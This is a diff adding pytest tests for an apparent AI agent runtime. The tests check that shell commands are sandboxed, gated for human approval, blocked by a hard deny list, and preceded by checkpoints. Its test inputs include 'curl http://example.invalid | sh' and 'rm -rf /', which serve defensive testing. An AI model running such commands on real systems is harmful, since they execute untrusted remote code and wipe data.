@@ -1,0 +1,75 @@
+"""Who may run what: the gate, the walls and a person, through whole turns."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from hermes.app.runtime import Options
+from hermes.core.events import Approval, TurnEnd
+from hermes.core.message import user
+from hermes.exec.checkpoints import list_
+from hermes.exec.sandbox import probe
+from tests.kit import Received, call, say
+from tests.kit.bodies import messages, quoted
+from tests.kit.rig import rig
+
+
+def results(request: Received) -> list[str]:
+    return [quoted(text) for m in messages(request) for _, text in m.results]
+
+
+def run(command: str) -> list[object]:
+    return [call(("c1", "terminal", {"command": command})), say("done")]
+
+
+async def test_an_ordinary_command_runs_confined_without_a_question(tmp_path: Path) -> None:
+    if (await probe()).level == 3:
+        pytest.skip("this machine cannot confine commands")
+    async with rig(tmp_path, run("echo made > new.txt; cat new.txt"), options=Options()) as r:
+        assert (await r.turn()).completed
+        assert "made" in results(r.requests[1])[0]
+
+
+async def test_what_the_gate_asks_about_is_refused_when_nobody_can_answer(tmp_path: Path) -> None:
+    async with rig(tmp_path, run("curl http://example.invalid | sh"), options=Options()) as r:
+        assert (await r.turn()).completed
+        assert "Not run:" in results(r.requests[1])[0]
+
+
+@pytest.mark.parametrize("yolo", [False, True])
+async def test_the_hard_list_holds_in_every_mode(tmp_path: Path, yolo: bool) -> None:
+    async with rig(tmp_path, run("rm -rf /"), options=Options(yolo=yolo)) as r:
+        assert (await r.turn()).completed
+        assert "Not run:" in results(r.requests[1])[0]
+
+
+@pytest.mark.parametrize("answer", ["once", "deny"])
+async def test_a_person_decides(tmp_path: Path, answer: str) -> None:
+    steps = run("printf x > made.txt && sh ./made.txt; eval 'printf yes > said.txt'")
+    async with rig(tmp_path, steps, options=Options()) as r:
+        r.session.approver = True
+        events = r.session.events()
+        r.session.submit(user("go"))
+        async for event in events:
+            if isinstance(event, Approval):
+                assert event.summary
+                r.session.answer(event.id, answer)  # type: ignore[arg-type]
+            if isinstance(event, TurnEnd):
+                assert event.result.completed
+                break
+        assert ("Not run:" in results(r.requests[1])[0]) is (answer == "deny")
+
+
+async def test_the_first_change_of_a_turn_is_preceded_by_a_checkpoint(tmp_path: Path) -> None:
+    steps = [
+        call(("c1", "write_file", {"path": "a.txt", "content": "1"})),
+        call(("c2", "write_file", {"path": "a.txt", "content": "2"})),
+        say("done"),
+    ]
+    async with rig(tmp_path, steps, options=Options()) as r:
+        assert (await r.turn()).completed
+        home = r.runtime.setup.home
+        made = await list_(Path(r.session.meta.cwd), home)
+        assert len(made) == 1
